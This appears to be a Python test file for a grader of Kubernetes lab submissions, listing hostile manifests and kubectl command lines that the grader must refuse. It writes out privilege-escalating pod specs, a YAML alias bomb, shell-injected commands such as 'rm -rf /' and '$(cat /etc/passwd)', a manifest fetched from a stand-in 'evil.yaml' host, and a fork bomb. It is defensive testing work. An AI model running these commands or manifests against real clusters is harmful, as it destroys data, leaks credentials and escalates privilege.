"""Submissions that try to do harm, or that would: each is refused with a finding, and costs nobody else anything."""

from __future__ import annotations

from corpus import DEPLOY, POD, SERVICE, Case, edited, lab1, lab2

_BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{letter}: &{letter} [{','.join('*' + before for _ in range(9))}]\n"
    for before, letter in zip("abcdefgh", "bcdefghi", strict=True)
)
_HOOK = """\
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata:
  name: everything-stops
webhooks: []
"""
_SPEC = "spec:\n  containers:"
_CONTAINER = "      image: nginx:1.20.1\n"


def _pod(old: str, new: str) -> str:
    return edited(POD, (old, new))


def _spec(line: str) -> str:
    return _pod(_SPEC, f"spec:\n  {line}\n  containers:")


def _container(line: str) -> str:
    return _pod(_CONTAINER, f"{_CONTAINER}      {line}\n")


def _line(command: str) -> str:
    return f"{command}\n"


MANIFESTS: tuple[Case, ...] = (
    lab1("privileged", _container("securityContext: {privileged: true}"), refused=("privileged",)),
    lab1("host-path", _spec("volumes: [{name: root, hostPath: {path: /}}]"), refused=("hostPath",)),
    lab1("host-network", _spec("hostNetwork: true"), refused=("hostNetwork",)),
    lab1("host-pid", _spec("hostPID: true"), refused=("hostPID",)),
    lab1("host-port", _pod("containerPort: 80", "containerPort: 80\n          hostPort: 80"), refused=("hostPort",)),
    lab1("added-capability", _container("securityContext: {capabilities: {add: [SYS_ADMIN]}}"), refused=("capabilities",)),
    lab1("onto-the-control-plane", _spec("tolerations: [{operator: Exists}]"), refused=("tolerations",)),
    lab1("node-selector", _spec('nodeSelector: {node-role.kubernetes.io/control-plane: ""}'), refused=("nodeSelector",)),
    lab1("node-by-name", _spec("nodeName: mine-1"), refused=("nodeName",)),
    lab1("system-priority", _spec("priorityClassName: system-node-critical"), refused=("priorityClassName",)),
    lab1("another-account", _spec("serviceAccountName: student"), refused=("serviceAccountName",)),
    lab1("never-goes", _pod("metadata:\n", "metadata:\n  finalizers: [example.com/never]\n"), refused=("finalizers",)),
    lab1("owned-by-others", _pod("metadata:\n", "metadata:\n  ownerReferences: []\n"), refused=("ownerReferences",)),
    lab1("into-kube-system", _pod("metadata:\n", "metadata:\n  namespace: kube-system\n"), refused=("kube-system",)),
    lab1("webhook", POD, files={"hook.yaml": _HOOK}, refused=("ValidatingWebhookConfiguration",)),
    lab1("makes-itself-admin", POD, files={"admin.yaml": edited(_HOOK, ("admissionregistration.k8s.io/v1", "rbac.authorization.k8s.io/v1"), ("ValidatingWebhookConfiguration", "ClusterRoleBinding"))}, refused=("ClusterRoleBinding",)),
    lab1("image-of-gigabytes", _pod("nginx:1.20.1", "example.com/huge:latest"), refused=("none of this lab's",)),
    lab1("imitates-nginx", _pod(_CONTAINER, "      image: busybox\n      command: [sh, -c, 'echo GET / 200; sleep 3600']\n"), refused=("busybox",)),
    lab1("alias-bomb", _BOMB, refused=("aliases",)),
    lab1("ten-thousand-documents", "---\nx: 1\n" * 10_000, refused=("documents",)),
    lab1("too-deep", "[" * 5_000 + "]" * 5_000, refused=("nginx-pod.yaml",)),
    lab1("too-large", POD + "# " + "x" * 300_000, refused=("larger",)),
    lab1("no-text", "apiVersion: v1\nkind: \ud800\n", refused=("UTF-8",)),
    lab1("escapes-and-markup", _pod("name: nginx-pod", 'name: "[red]<script>\\u001b[2J\\u202e"'), refused=()),
    lab1("letters-that-look-alike", _pod("kind: Pod", "kind: \N{CYRILLIC CAPITAL LETTER ER}od"), refused=("may not be handed in",)),
    lab2("a-thousand-replicas", edited(DEPLOY, ("replicas: 3", "replicas: 1000")), refused=("replicas",)),
    lab2("takes-an-address", DEPLOY, files={"nginx-service.yaml": edited(SERVICE, ("spec:\n", "spec:\n  externalIPs: [10.0.0.1]\n"))}, refused=("externalIPs",)),
    lab2("leads-elsewhere", DEPLOY, files={"nginx-service.yaml": "apiVersion: v1\nkind: Service\nmetadata: {name: nginx-service}\nspec: {type: ExternalName, externalName: example.com}\n"}, refused=("ExternalName",)),
    lab2("answers-for-another", DEPLOY, files={"slice.yaml": "apiVersion: discovery.k8s.io/v1\nkind: EndpointSlice\nmetadata: {name: mine}\naddressType: IPv4\nendpoints: []\n"}, refused=("EndpointSlice",)),
)  # fmt: skip

COMMAND_LINES: tuple[Case, ...] = (
    lab2("shell-in-a-command", DEPLOY, _line("kubectl get pods; rm -rf /"), refused=("no shell",)),
    lab2("substitution", DEPLOY, _line("kubectl delete pod $(cat /etc/passwd)"), refused=("no shell",)),
    lab2("another-kubeconfig", DEPLOY, _line("kubectl get pods --kubeconfig=/etc/kubernetes/admin.conf"), refused=("--kubeconfig",)),
    lab2("manifest-from-the-net", DEPLOY, _line("kubectl apply -f http://192.0.2.1/evil.yaml"), refused=("no manifest",)),
    lab2("manifest-from-above", DEPLOY, _line("kubectl apply -f ../../other/lab2/nginx-deploy.yaml"), refused=("no manifest",)),
    lab2("exec-into-another", DEPLOY, _line("kubectl exec -n kube-system etcd-mine-1 -- sh"), refused=("exec",)),
    lab2("everything-everywhere", DEPLOY, _line("kubectl delete pods --all --all-namespaces"), refused=("--all",)),
    lab2("as-somebody-else", DEPLOY, _line("kubectl get pods --as=system:admin"), refused=("--as",)),
    lab2("fork-bomb", DEPLOY, _line("kubectl run bomb --image=nginx --command -- sh -c ':(){ :|:& };:'"), refused=("--command",)),
    lab2("another-image", DEPLOY, _line("kubectl run miner --image=example.com/miner"), refused=("none of this lab's",)),
)  # fmt: skip

HOSTILE = (*MANIFESTS, *COMMAND_LINES)
